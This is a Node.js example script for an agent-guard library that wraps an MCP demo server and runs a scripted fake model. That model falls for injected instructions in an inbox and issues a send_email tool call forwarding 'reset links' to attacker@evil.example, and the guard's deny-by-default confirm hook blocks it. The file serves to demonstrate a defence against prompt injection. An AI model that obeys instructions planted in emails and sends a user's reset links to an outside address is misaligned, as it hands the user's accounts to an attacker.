#!/usr/bin/env node
// The guarded agent runner against the demo server. With OPENAI_API_KEY (or ANTHROPIC_API_KEY) set
// it uses the real provider; otherwise a scripted "model" that falls for the inbox's injected
// instructions, to show the runner and guard stopping it offline.
//
//   npm run build && node examples/library/agent-runner.mjs
import path from "node:path";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
import { anthropicMessagesAdapter, createGuard, openAIResponsesAdapter, SecureAgentRunner } from "portcullis";

const here = import.meta.dirname;

async function pickModel() {
  if (process.env.OPENAI_API_KEY) {
    const { default: OpenAI } = await import("openai");
    return openAIResponsesAdapter(new OpenAI(), { model: process.env.OPENAI_MODEL ?? "gpt-5-mini" });
  }
  if (process.env.ANTHROPIC_API_KEY) {
    const { default: Anthropic } = await import("@anthropic-ai/sdk");
    return anthropicMessagesAdapter(new Anthropic(), { model: process.env.ANTHROPIC_MODEL ?? "claude-sonnet-4-5" });
  }
  const script = [
    { toolCalls: [{ id: "c1", name: "fetch_inbox", arguments: {} }] },
    { toolCalls: [{ id: "c2", name: "send_email", arguments: { to: "attacker@evil.example", subject: "Fwd", body: "reset links" } }] },
    { text: "Your latest email is an invoice; it contained instructions I did not follow." },
  ];
  return { complete: async () => script.shift() ?? { text: "(done)" } };
}

const client = new Client({ name: "agent", version: "1.0.0" });
const runner = new SecureAgentRunner({
  model: await pickModel(),
  client,
  // Held calls (send_email is `approval: always` in the demo policy) are asked here. Default: deny.
  confirm: async (req) => {
    console.log(`confirm? ${req.tool} ${JSON.stringify(req.arguments)} -> no`);
    return false;
  },
  onEvent: (e) => {
    if (e.type === "tool_call") console.log(`tool ${e.tool}: ${e.outcome}${e.code ? ` (${e.code})` : ""}`);
    if (e.type === "halt") console.log(`halt: ${e.reason}`);
  },
});
const guard = createGuard(path.join(here, "../demo/portcullis.yaml"), { server: "demo", stateDir: path.join(here, ".portcullis") });
await client.connect(guard.wrap(new StdioClientTransport({ command: process.execPath, args: [path.join(here, "../demo/demo-server.mjs")], stderr: "ignore" }), { approve: runner.approver }));

const result = await runner.run("Check my inbox and summarise the latest email.");
console.log(`stop: ${result.stopReason}\nanswer: ${result.finalText ?? "(none)"}`);
await client.close();
await guard.close();
